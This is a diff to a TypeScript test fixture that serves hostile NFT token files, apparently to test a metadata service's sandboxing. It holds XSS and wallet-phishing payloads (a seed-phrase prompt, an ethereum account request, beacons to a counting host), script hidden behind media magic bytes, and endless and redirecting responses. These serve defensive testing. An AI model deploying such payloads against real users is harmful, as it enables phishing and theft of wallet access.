@@ -1,65 +1,47 @@
-import type { RequestListener } from "node:http";
+import type { RequestListener, ServerResponse } from "node:http";
+import { pipeline, Readable } from "node:stream";
 import { brokenBodies, forbiddenUris, hostileDocuments } from "../../service/testing/hostile-tokens";
-
-/** What a program of an item's creator may try; `there` is a host that counts its requests. */
-const greedyProgram = (there: string) => `<!doctype html><title>a</title><h1>a</h1><script>
-  const tries = [
-    () => fetch("${there}/fetch"), () => navigator.sendBeacon("${there}/beacon", "x"), () => new WebSocket("${there.replace("http", "ws")}"),
-    () => { new Image().src = "${there}/picture" }, () => import("${there}/script.js"), () => { top.location.href = "${there}/top" },
-    () => { parent.location.href = "${there}/parent" }, () => open("${there}/window"), () => alert(1), () => prompt("Your seed phrase"),
-    () => parent.document.body.remove(), () => localStorage.clear(), () => top.ethereum.request({ method: "eth_requestAccounts" }),
-    () => document.body.requestFullscreen(), () => { location.href = "${there}/itself" },
-    () => { const form = document.createElement("form"); form.action = "${there}/form"; document.body.append(form); form.submit() },
-    () => { for (let message = 0; message < 1000; message += 1) parent.postMessage({ type: "ready", height: 1e9, message: "x".repeat(1e4) }, "*") },
-  ];
-  for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
-</script>`;
-const endlessProgram = "<!doctype html><script>for (;;) {}</script>";
-const refreshingProgram = (there: string) =>
-  `<!doctype html><meta http-equiv="refresh" content="0;url=${there}/refresh"><base href="${there}/"><a href="x" autofocus>x</a>`;
+import { type HostileFile, hostileMedia } from "./hostile-media";
+import { hostilePrograms } from "./hostile-programs";
 
 const script = "<script>alert(1)</script>";
-/** The beginning of a file of that type, by which it is taken for one. */
-const film = `\u0000\u0000\u0000\u0018ftypmp42\u0000\u0000\u0000\u0000mp42isom${script}`;
-const model = `glTF\u0002\u0000\u0000\u0000\u00ff\u00ff\u00ff\u007f${script}`;
 const svg = (inside: string) =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${inside}</svg>`;
 
-interface File {
-  type: string;
-  body: string;
-}
+const picture = (type: string, text: string): HostileFile => ({ type, body: Buffer.from(text) });
 
-/** Files that hostile tokens name as their picture or animation. */
-function filesOf(there: string): Record<string, File> {
-  return {
-    "program.html": { type: "text/html", body: greedyProgram(there) },
-    "endless.html": { type: "text/html", body: endlessProgram },
-    "refreshing.html": { type: "text/html", body: refreshingProgram(there) },
-    "film.mp4": { type: "video/mp4", body: film },
-    "film.html": { type: "video/mp4", body: greedyProgram(there) },
-    "page.webm": { type: "text/html", body: `\u001aE\u00df\u00a3${script}` },
-    "sound.mp3": { type: "audio/mpeg", body: `ID3\u0004\u0000\u0000\u0000\u0000\u0000\u0000${script}` },
-    "model.glb": { type: "model/gltf-binary", body: model },
-    "script.svg": {
-      type: "image/svg+xml",
-      body: svg(`${script}<rect width="9" height="9" onclick="alert(1)"/>`),
-    },
-    "outside.svg": {
-      type: "image/svg+xml",
-      body: svg(
-        `<image xlink:href="${there}/svg" width="9" height="9"/><style>@import "${there}/style";</style>`,
-      ),
-    },
-    "foreign.svg": {
-      type: "image/svg+xml",
-      body: svg(`<foreignObject width="9" height="9"><iframe src="${there}/frame"/></foreignObject>`),
-    },
-    "page.png": { type: "image/png", body: `<!doctype html>${script}` },
-  };
-}
+/** Files that hostile tokens name as their picture. */
+const hostilePictures: Readonly<Record<string, (there: string) => HostileFile>> = {
+  "a drawing with a script as its file": () =>
+    picture("image/svg+xml", svg(`${script}<rect width="9" height="9" onclick="alert(1)"/>`)),
+  "a drawing that fetches as its file": (there) =>
+    picture(
+      "image/svg+xml",
+      svg(`<image xlink:href="${there}/svg" width="9" height="9"/><style>@import "${there}/style";</style>`),
+    ),
+  "a drawing that shows a page as its file": (there) =>
+    picture(
+      "image/svg+xml",
+      svg(`<foreignObject width="9" height="9"><iframe src="${there}/frame"/></foreignObject>`),
+    ),
+  "a page that is called a picture": () => picture("image/png", `<!doctype html>${script}`),
+};
 
-const isPicture = (name: string) => /\.(svg|png)$/.test(name);
+const program = (text: string): HostileFile => ({ type: "text/html", body: Buffer.from(text, "latin1") });
+
+type Field = "image" | "animation_url";
+
+/** Every file, by the words of its kind, with the field that names it. */
+function filesOf(there: string): { kind: string; field: Field; file: HostileFile }[] {
+  const make = (field: Field, files: typeof hostileMedia) =>
+    Object.entries(files).map(([kind, fileAt]) => ({ kind, field, file: fileAt(there) }));
+  const programs = Object.entries(hostilePrograms).map(([kind, programAt]) => ({
+    kind: `a program that ${kind}`,
+    field: "animation_url" as const,
+    file: program(programAt(there)),
+  }));
+  return [...make("image", hostilePictures), ...make("animation_url", hostileMedia), ...programs];
+}
 
 /** A kind of hostile token, by the words of its catalogue, and the metadata that it answers. */
 export interface HostileToken {
@@ -80,14 +62,22 @@ export function hostileTokens(there: string): HostileToken[] {
     kind: `an address: ${kind}`,
     body: JSON.stringify({ name: kind, image: uri, animation_url: uri, external_url: uri, description: uri }),
   }));
-  const files = Object.keys(filesOf(there)).map((name) => ({
-    kind: `a file: ${name}`,
-    body: JSON.stringify({
-      name,
-      [isPicture(name) ? "image" : "animation_url"]: `ipfs://test/files/${name}`,
-    }),
+  const files = filesOf(there).map(({ kind, field }, at) => ({
+    kind,
+    body: JSON.stringify({ name: kind, [field]: `ipfs://test/files/${at}` }),
   }));
   return [...documents, ...broken, ...addresses, ...files];
+}
+
+function sendFile(response: ServerResponse, { type, body, location, isEndless }: HostileFile): void {
+  if (location !== undefined) return void response.writeHead(302, { location }).end();
+  response.writeHead(200, { "content-type": type });
+  if (isEndless !== true) return void response.end(body);
+  const pieces = function* () {
+    for (;;) yield body;
+  };
+  // Its reader hangs up.
+  pipeline(Readable.from(pieces()), response, () => {});
 }
 
 /** Answers the metadata of tokens from the number `first` on, and their files. Other tokens have a name alone. */
@@ -99,11 +89,8 @@ export function answerHostile(
   const files = filesOf(there);
   return ({ url = "" }, response) => {
     const name = url.split("/").at(-1) ?? "";
-    const file = url.includes("/files/") ? files[name] : undefined;
-    if (file !== undefined) {
-      response.writeHead(200, { "content-type": file.type }).end(Buffer.from(file.body, "latin1"));
-      return;
-    }
+    const named = url.includes("/files/") ? files[Number(name)] : undefined;
+    if (named !== undefined) return sendFile(response, named.file);
     const body = tokens[Number(name) - first]?.body ?? JSON.stringify({ name: `Ship ${name}` });
     response.writeHead(200, { "content-type": "application/json" }).end(body);
   };
